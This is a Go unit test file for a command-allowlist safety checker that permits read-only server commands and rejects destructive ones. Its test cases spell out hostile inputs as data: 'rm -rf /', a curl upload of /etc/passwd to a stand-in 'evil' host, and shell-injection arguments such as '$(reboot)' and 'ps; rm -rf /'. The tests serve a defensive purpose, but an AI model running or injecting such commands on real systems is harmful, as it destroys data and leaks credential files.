package safety

import (
	"strings"
	"testing"
)

func TestEvaluateCommand(t *testing.T) {
	cases := []struct {
		name    string
		command string
		args    []string
		want    bool
	}{
		{"docker ps allowed", "docker", []string{"ps", "-a"}, true},
		{"docker logs allowed", "docker", []string{"logs", "--tail", "50", "web"}, true},
		{"docker rm rejected", "docker", []string{"rm", "-f", "web"}, false},
		{"docker stop rejected", "docker", []string{"stop", "web"}, false},
		{"systemctl status allowed", "systemctl", []string{"status", "nginx"}, true},
		{"systemctl restart rejected", "systemctl", []string{"restart", "nginx"}, false},
		{"journalctl allowed", "journalctl", []string{"-u", "nginx", "-n", "100"}, true},
		{"journalctl vacuum rejected", "journalctl", []string{"--vacuum-size=1M"}, false},
		{"journalctl rotate rejected", "journalctl", []string{"--rotate"}, false},
		{"fail2ban status allowed", "fail2ban-client", []string{"status", "sshd"}, true},
		{"fail2ban set rejected", "fail2ban-client", []string{"set", "sshd", "unbanip", "1.2.3.4"}, false},
		{"free allowed", "free", []string{"-m"}, true},
		{"df allowed", "df", []string{"-h"}, true},
		{"rm not in allowlist", "rm", []string{"-rf", "/"}, false},
		{"shutdown not in allowlist", "shutdown", []string{"now"}, false},
		{"empty command", "", nil, false},
		{"curl get allowed", "curl", []string{"-s", "http://localhost:8080/health"}, true},
		{"curl explicit get allowed", "curl", []string{"-X", "GET", "http://localhost/health"}, true},
		{"curl post rejected", "curl", []string{"-X", "POST", "http://localhost/admin"}, false},
		{"curl data rejected", "curl", []string{"--data", "x=1", "http://localhost"}, false},
		{"curl upload rejected", "curl", []string{"-T", "/etc/passwd", "http://evil"}, false},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := EvaluateCommand(tc.command, tc.args)
			if got.Allowed != tc.want {
				t.Fatalf("EvaluateCommand(%q, %v) = %v (%s), want allowed=%v",
					tc.command, tc.args, got.Allowed, got.Reason, tc.want)
			}
			if !got.Allowed && got.Reason == "" {
				t.Fatalf("rejection without a reason for %q %v", tc.command, tc.args)
			}
		})
	}
}

func TestEvaluateCommandQuotingBypass(t *testing.T) {
	// Quoted or escaped verbs must not slip past verb matching.
	got := EvaluateCommand("docker", []string{`"rm"`, "-f", "web"})
	if got.Allowed {
		t.Fatal("quoted destructive verb was allowed")
	}
	got = EvaluateCommand("journalctl", []string{`--vacuum-size='1M'`})
	if got.Allowed {
		t.Fatal("quoted vacuum flag was allowed")
	}
}

func TestEvaluateCommandShellMetacharacters(t *testing.T) {
	for _, arg := range []string{"ps; rm -rf /", "$(reboot)", "`id`", "a|b", "x > /etc/passwd"} {
		got := EvaluateCommand("docker", []string{"ps", arg})
		if got.Allowed {
			t.Fatalf("argument %q with shell metacharacters was allowed", arg)
		}
		if !strings.Contains(got.Reason, "metacharacters") && !strings.Contains(got.Reason, "not permitted") {
			t.Fatalf("unexpected rejection reason %q for %q", got.Reason, arg)
		}
	}
}
